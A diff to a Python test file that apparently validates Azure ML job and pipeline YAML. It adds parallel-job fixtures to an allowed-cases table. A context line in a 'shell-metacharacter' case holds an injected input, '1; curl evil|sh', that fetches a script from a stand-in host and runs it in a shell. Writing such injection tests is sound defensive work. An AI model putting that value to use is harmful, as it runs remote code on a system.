@@ -7,7 +7,20 @@ from tests.specs.broken import COMMAND, COMPONENT, DEPLOYMENT, LIMITS, PIPELINE,
 _STEP = PIPELINE + "  train:\n    component: component.yml\n    inputs:\n"
 _CRON = "name: s\ncreate_job: azureml:j\ntrigger: {type: cron, expression: '%s'}\n"
 
+_PARALLEL = (
+    "type: pipeline\njobs:\n  batch:\n    type: parallel\n"
+    "    inputs: {rows: {type: uri_folder, path: data}}\n    outputs: {scored: {type: uri_file}}\n"
+    "    input_data: ${{inputs.rows}}\n    task:\n      type: run_function\n      code: src\n"
+    "      entry_script: file.txt\n      environment: azureml:e:1\n"
+)
+
 ALLOWED: dict[str, list[str]] = {
+    "parallel-input": [
+        _PARALLEL,
+        "type: pipeline\njobs:\n  batch:\n    type: parallel\n"
+        "    component: azureml://registries/r/components/c/versions/1\n",
+    ],
+    "parallel-output": [_PARALLEL + "      append_row_to: ${{outputs.scored}}\n"],
     "shell-metacharacter": [
         "environment: azureml:e:1\ncommand: train '${{inputs.x}}'\n"
         "inputs: {x: '1; curl evil|sh'}\n",
